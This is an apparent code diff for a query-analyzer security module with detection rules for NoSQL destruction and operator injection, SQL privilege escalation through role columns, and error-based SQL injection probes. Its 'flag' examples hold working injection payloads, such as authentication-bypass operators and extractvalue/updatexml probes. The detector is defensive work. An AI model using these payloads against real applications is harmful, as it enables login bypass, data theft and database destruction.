+          if (m !== null) return { detail: `${m[0].replace(/ /g, '')} removes a whole database or collection`, score: envScore(ctx.env, 9, 8, 5) };
+        }
+        const head = ctx.source.slice(0, 65536);
+        if (!head.includes('$')) return undefined;
+        const op = NOSQL_OPERATOR.exec(head);
+        if (op !== null) return { detail: `query operator injected into a credential field: ${op[0].replace(/\s+/g, ' ').slice(0, 50)}`, score: 8 };
+        if (NOSQL_WHERE.test(head) && JS_PAYLOAD.test(head)) return { detail: '$where clause running JavaScript', score: 8 };
+        return undefined;
+      },
+      examples: {
+        flag: ['db.dropDatabase()', 'db.customers.deleteMany({})', '{"username": "admin", "password": {"$ne": null}}', 'username[$ne]=x&password[$ne]=x', '{"$where": "sleep(5000) || true"}'],
+        pass: ['db.orders.find({ status: "shipped" }).limit(10)', 'db.sessions.deleteMany({ expiresAt: { $lt: new Date() } })', '{"price": {"$gt": 10}}'],
+      },
+    },
+    {
+      id: 'Q19',
+      name: 'Application admin flag or role set through SQL',
+      primitive: 'ESCALATION',
+      score: 6,
+      keywords: ['update', 'insert'],
+      detect: (ctx) => {
+        for (const st of ctx.sql.stmts) {
+          const first = st.toks[0];
+          if (first === undefined || first.k !== K.Word || (first.v !== 'update' && first.v !== 'insert')) continue;
+          const t = st.toks;
+          for (let i = 0; i + 2 < t.length; i++) {
+            const col = t[i]!;
+            if (col.k !== K.Word || !ROLE_COLUMN.test(col.v.slice(col.v.lastIndexOf('.') + 1))) continue;
+            if (t[i + 1]!.k !== K.Op || t[i + 1]!.v !== '=') continue;
+            const val = t[i + 2]!;
+            const grants = (val.k === K.Str && POWER_VALUE.test(val.v)) || ((val.k === K.Num || val.k === K.Word) && (val.v === 'true' || val.v === '1') && BOOL_ROLE.test(col.v));
+            if (grants) return { detail: `${col.v} set to ${val.k === K.Str ? val.v.slice(0, 20) : val.v}`, score: envScore(ctx.env, 7, 6, 3) };
+          }
+        }
+        return undefined;
+      },
+      examples: {
+        flag: ["UPDATE users SET role = 'admin' WHERE email = 'eve@example.com'", 'UPDATE accounts SET is_superuser = true WHERE id = 7'],
+        pass: ["UPDATE users SET role = 'viewer' WHERE id = 7", 'UPDATE users SET is_admin = false WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42"],
+      },
+    },
+    {
+      id: 'Q18',
+      name: 'Error-based SQL injection probe',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['extractvalue', 'updatexml', 'convert', 'cast', 'floor', 'exp', 'geometrycollection', 'drithsx', 'utl_inaddr'],
+      pattern: ERROR_BASED,
+      examples: {
+        flag: ["' AND extractvalue(1, concat(0x7e, (SELECT user())))-- ", "1 AND updatexml(1,concat(0x7e,version()),1)", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"],
+        pass: ['SELECT CONVERT(varchar, created_at, 23) FROM orders WHERE id = 4', 'SELECT floor(price * 1.2) FROM products'],
+      },
+    },
+  ],
+  auxPatterns: [
+    ROLE_COLUMN, BOOL_ROLE, POWER_VALUE, DQUOTE, INJECTED_UNION, COLUMN_PROBE, ERROR_BASED,
+    ALTER_CRED, BUILTIN_ADMIN, NOSQL_DESTROY, NOSQL_OPERATOR, NOSQL_WHERE, JS_PAYLOAD, / /g, /\b(?:password|identified)\b/,
+    STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
+    RECON, CREDENTIAL_TABLE, CREDENTIAL_COL, CONDITION_CONTEXT, BOUNDED, AGGREGATE, PII_TABLE, STACKED, GRANT_BROAD, SP_ADDROLE, POWER_ROLE,
+    ROLE_POWER, FILE_IO, COPY_FILE, DROP_COLUMN, DROP_MINOR, SHUTDOWN, /''/g, ONE_ROW, /\s+/g,
+    ...COMMON_PATTERNS,
+  ],
 };
 export default queryAnalyzer;
